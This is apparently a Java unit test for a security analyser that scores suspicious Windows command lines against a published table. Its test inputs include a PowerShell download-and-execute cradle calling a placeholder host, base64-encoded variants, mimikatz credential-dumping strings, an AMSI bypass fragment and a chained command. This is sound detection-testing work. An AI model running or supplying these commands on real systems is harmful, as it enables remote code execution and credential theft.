package seldom.analytics.commandline;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import seldom.model.command.Band;
import seldom.model.command.CommandAnalysis;

/// The published score table, every row.
class LegacyTest {
  private static final String CRADLE =
      "powershell -nop -c \"iex (New-Object Net.WebClient).DownloadString('http://a.example.com/x')\"";

  static List<Arguments> rows() {
    return List.of(
        Arguments.of("whoami", 10, 8, Band.LOW, "reconnaissance"),
        Arguments.of("tool -noprofile", 5, 4, Band.LOW, "suspicious_parameters"),
        Arguments.of("mimikatz.exe", 25, 21, Band.LOW, "malicious_commands"),
        Arguments.of("iex $x", 35, 29, Band.MEDIUM, "powershell_suspicious_patterns"),
        Arguments.of(
            "taskkill /im mimikatz.exe",
            60,
            50,
            Band.MEDIUM,
            "malicious_commands suspicious_parameters"),
        Arguments.of("dir C:\\Temp", 30, 25, Band.LOW, "windows_temp_path reconnaissance"),
        Arguments.of(
            "reg add HKCU\\Software\\X & whoami",
            25,
            21,
            Band.LOW,
            "reconnaissance suspicious_parameters"),
        Arguments.of("psexec.exe -i", 15, 12, Band.LOW, "lateral_movement"),
        Arguments.of(
            "psexec.exe -i http://a.example.com/x",
            45,
            38,
            Band.MEDIUM,
            "lateral_movement indicators"),
        Arguments.of(
            "psexec.exe -i whoami", 45, 38, Band.MEDIUM, "lateral_movement reconnaissance"),
        Arguments.of(
            CRADLE,
            80,
            67,
            Band.HIGH,
            "powershell_suspicious_patterns indicators suspicious_parameters"),
        Arguments.of(
            encoded(CRADLE, 1),
            85,
            71,
            Band.HIGH,
            "powershell_suspicious_patterns indicators base64_encoding suspicious_parameters"),
        Arguments.of(
            encoded(CRADLE, 2),
            110,
            92,
            Band.CRITICAL,
            "powershell_suspicious_patterns double_encoding indicators base64_encoding"
                + " suspicious_parameters"));
  }

  static String encoded(String command, int times) {
    String line = command;
    for (int i = 0; i < times; i++) {
      line =
          "powershell -enc "
              + java.util.Base64.getEncoder().encodeToString(line.getBytes(UTF_16LE));
    }
    return line;
  }

  @ParameterizedTest
  @MethodSource("rows")
  void everyRowOfThePublishedTableIsReproduced(
      String command, int raw, long shown, Band band, String categories) {
    CommandAnalysis a = Analysers.SHIPPED.legacy(command);
    String present =
        a.parts().stream()
            .map(CommandAnalysis.Part::category)
            .filter(c -> !c.equals(Legacy.BONUS))
            .collect(Collectors.joining(" "));
    assertThat(present).isEqualTo(categories);
    double points = a.parts().stream().mapToDouble(CommandAnalysis.Part::points).sum();
    assertThat(points).isEqualTo(raw);
    assertThat(a.score()).isEqualTo(raw * 100.0 / 120);
    assertThat(a.shownScore()).isEqualTo(shown);
    assertThat(a.band()).isEqualTo(band);
  }

  @Test
  void theBordersBelongToTheLowerBand() {
    assertThat(Analysers.SHIPPED.legacy("taskkill /im mimikatz.exe").score()).isEqualTo(50.0);
    assertThat(Analysers.SHIPPED.legacy("taskkill /im mimikatz.exe").band()).isEqualTo(Band.MEDIUM);
    assertThat(Analysers.SHIPPED.legacy("dir C:\\Temp").score()).isEqualTo(25.0);
    assertThat(Analysers.SHIPPED.legacy("dir C:\\Temp").band()).isEqualTo(Band.LOW);
  }

  @Test
  void moreThanTheFullRawPointsIsAHundred() {
    CommandAnalysis a =
        Analysers.SHIPPED.legacy(
            CRADLE + "; sekurlsa::logonpasswords; mimikatz; [Ref].Assembly.GetType('AmsiUtils')");
    assertThat(a.score()).isEqualTo(100.0);
    assertThat(a.band()).isEqualTo(Band.CRITICAL);
  }
}
